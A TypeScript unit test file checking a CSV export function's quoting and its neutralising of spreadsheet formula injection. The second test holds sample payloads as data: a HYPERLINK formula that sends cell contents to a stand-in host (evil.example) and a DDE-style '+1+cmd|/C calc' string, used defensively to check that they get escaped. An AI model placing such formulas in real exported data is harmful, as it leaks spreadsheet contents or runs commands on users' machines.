import { describe, expect, it } from 'vitest'
import { csvCell, toCsv } from './csv.ts'

describe('toCsv', () => {
  it('quotes separators, quotes and line breaks, and writes values by type', () => {
    expect(toCsv(['a', 'b'], [['x,y', 'say "hi"'], [null, 'two\nlines'], [3, true], [{ k: 'v' }, ['p', 'q']]]))
      .toBe('a,b\r\n"x,y","say ""hi"""\r\n,"two\nlines"\r\n3,true\r\n"{""k"":""v""}","[""p"",""q""]"\r\n')
    expect(toCsv(['only'], [])).toBe('only\r\n')
    expect(toCsv([], [])).toBe('\r\n')
  })

  it('defuses formulas from unverified claims (OWASP CSV injection)', () => {
    const sub = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
    expect(toCsv(['subject'], [[sub]])).toBe(`subject\r\n"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click me"")"\r\n`)
    for (const text of ['+1+cmd|/C calc', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1']) expect(csvCell(text).replace(/^"/, '')[0], JSON.stringify(text)).toBe("'")
    expect(csvCell('a=b')).toBe('a=b')
    expect(csvCell(-1)).toBe('-1')
    expect(csvCell('')).toBe('')
  })
})
